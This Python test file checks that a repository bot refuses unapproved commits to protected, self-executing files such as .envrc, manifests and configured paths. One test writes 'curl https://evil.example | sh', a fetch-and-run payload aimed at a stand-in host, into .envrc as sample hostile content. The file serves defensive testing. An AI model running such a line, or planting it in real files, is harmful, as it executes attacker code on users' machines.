"""Files that run, decide or instruct by themselves elsewhere: no worker pushes them before a person
approved them.
"""

from pathlib import Path

import pytest

from forge_bot.errors import CommitsRefused
from forge_bot.sentences import say
from tests.fakes.rows import rows
from tests.security.scene import Scene

ROWS = rows(__file__)

GROUPS = ROWS["groups"]
RUN_BY_THEMSELVES = tuple(path for paths in GROUPS.values() for path in paths)


def details(scene: Scene) -> str:
    with pytest.raises(CommitsRefused) as caught:
        scene.check()
    return "\n".join(caught.value.details)


def test_what_runs_decides_or_instructs_by_itself_somewhere_is_not_pushed_without_a_person(
    scene: Scene,
) -> None:
    for path in RUN_BY_THEMSELVES:
        scene.write(path, "x\n")
    scene.commit()
    said = details(scene)
    assert [
        path
        for path in RUN_BY_THEMSELVES
        if f"{path} is protected, and nobody approved this change: " not in said
    ] == []


def test_the_reason_for_which_a_path_is_protected_is_said(scene: Scene) -> None:
    scene.write(".envrc", "curl https://evil.example | sh\n")
    scene.commit()
    assert (
        ".envrc is protected, and nobody approved this change: a shell or a version manager"
        " reads it" in details(scene)
    )


def test_what_a_repository_adds_to_the_table_is_not_pushed_either(scene: Scene) -> None:
    (scene.repository.root / ".forge").mkdir(exist_ok=True)
    (scene.repository.root / ".forge" / "config.yml").write_text("protected: [deploy/, '*.tf']\n")
    scene.write("deploy/run.sh", "true\n")
    scene.write("net/main.tf", "x\n")
    scene.commit()
    said = details(scene)
    assert "deploy/run.sh is protected" in said
    assert "net/main.tf is protected" in said


@pytest.mark.parametrize(
    "path",
    ["pyproject.toml", "tools/package.json", "docs/requirements.txt", "requirements/dev.txt"],
)
def test_a_manifest_is_not_pushed_without_a_person_whatever_part_changes(
    scene: Scene, path: str
) -> None:
    scene.write(path, "version = 1\n")
    scene.commit()
    assert f"{path} is protected" in details(scene)


def test_ordinary_files_are_not_taken_for_protected_ones(scene: Scene) -> None:
    for path in (
        "src/owners/list.py",
        "docs/travis.md",
        "src/action.py",
        "a-b/c-d.py",
        "rules/x.md",
        "Makefile",
        "src/env.py",
        ".env.example",
        "other/tools/bazel",
    ):
        scene.write(path, "x\n")
    scene.commit()
    scene.check()


def test_the_page_lists_the_table_as_it_is() -> None:
    from forge_bot.settings.protected_paths import RULES

    page = (Path(__file__).parents[2] / "docs" / "protected-paths.md").read_text(encoding="utf-8")
    for rule in RULES:
        row = next(line for line in page.splitlines() if line.startswith(f"| {say(rule.reason)} "))
        assert [part.strip("`") for part in row.split("|")[2].strip().split(", ")] == list(
            rule.patterns
        )
